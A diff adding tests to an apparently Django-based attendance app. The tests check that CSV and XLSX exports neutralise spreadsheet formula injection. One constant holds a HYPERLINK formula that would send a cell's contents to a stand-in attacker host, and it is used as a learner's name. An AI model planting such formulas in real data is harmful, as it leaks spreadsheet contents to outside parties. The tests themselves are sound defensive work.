@@ -101,3 +101,32 @@ def test_the_sign_in_sheet_is_a_thai_pdf(client, facilitator, recorded, learner,
             check=True,
         ).stdout.decode()
         assert "Laksaman" in fonts
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&D3,"Open")'
+
+
+def test_a_formula_typed_as_a_name_is_plain_text_in_the_csv(client, coordinator, recorded, learner):
+    learner.first_name = FORMULA
+    learner.title_prefix = ""
+    learner.save()
+    client.force_login(coordinator)
+    response = client.get(f"/cohorts/{recorded.cohort.slug}/attendance.csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    names = {row[3]: row[1] for row in rows[1:-1]}
+    assert names[learner.email].startswith("'=HYPERLINK")
+
+
+def test_a_formula_typed_as_a_name_is_a_string_cell_in_the_xlsx(
+    client, coordinator, recorded, learner
+):
+    from openpyxl import load_workbook
+
+    learner.first_name = FORMULA
+    learner.title_prefix = ""
+    learner.save()
+    client.force_login(coordinator)
+    response = client.get(reverse("attendance_admin:matrix_xlsx", args=[recorded.cohort.pk]))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [row[1] for row in sheet.iter_rows(min_row=2) if row[3].value == learner.email]
+    assert cells[0].data_type == "s" and cells[0].value.startswith("=HYPERLINK")
